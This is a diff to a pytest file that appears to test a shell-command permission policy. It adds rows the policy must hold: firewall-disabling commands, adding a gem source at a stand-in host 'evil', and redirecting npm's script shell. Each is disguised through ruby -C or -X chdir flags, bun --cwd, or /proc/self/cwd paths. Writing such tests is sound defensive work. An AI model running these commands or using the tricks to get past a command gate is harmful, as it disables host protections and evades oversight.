@@ -10,9 +10,23 @@ import pytest
 from tests.policy_rows import assert_held_or_runs
 
 UFW = "/usr/sbin/ufw disable"
+ADD = "gem sources --add http://evil/"
 SVC = "service ufw stop"
 # (line, held): held means denied or confirmed typed and as an exec command; not held: allowed
 ROWS = [
+    # finding 1: ruby's own chdir before a relative script (and bun's --cwd)
+    *((f"{ruby} {opts} {ADD}", True) for ruby in ("ruby", "jruby", "truffleruby", "ruby3.1")
+      for opts in ("-C /usr/bin", "-C/usr/bin", "-wC /usr/bin", "-C /usr -C bin")),
+    *((f"ruby {opts}", True) for opts in (
+        f"-X /usr/bin {ADD}", f"-x/usr/bin {ADD}", f"-C / usr/bin/{ADD}", f"-C /us? bin/{ADD}",
+        f"-C ../../usr/bin {ADD}", "-C /usr/sbin ufw disable")),
+    (f"cd /usr && ruby -C bin {ADD}", True), (f"jruby -X /usr/bin {ADD}", True),
+    ("bun --cwd /usr/bin npm config set script-shell /tmp/x", True),
+    ("bun --cwd=/usr/bin npm config set script-shell /tmp/x", True),
+    # honest: a script of one's own in another folder, code on the line
+    ("ruby -C /tmp x.rb", False), ("ruby -C app bin/rails s", False), ("ruby -x/tmp x.rb", False),
+    ("ruby -C /usr/bin -e 'puts 1'", False), ("jruby -Xcompile.mode=JIT x.rb", False),
+    ("bun --cwd app run dev", False),
     # finding 13: /proc/self/cwd (the line's own folder) and a descriptor on a folder
     ("cd / && python3 /proc/self/cwd/usr/sbin/ufw disable", True),
     (f"cd / && sh /proc/self/cwd/usr/sbin/{SVC}", True),
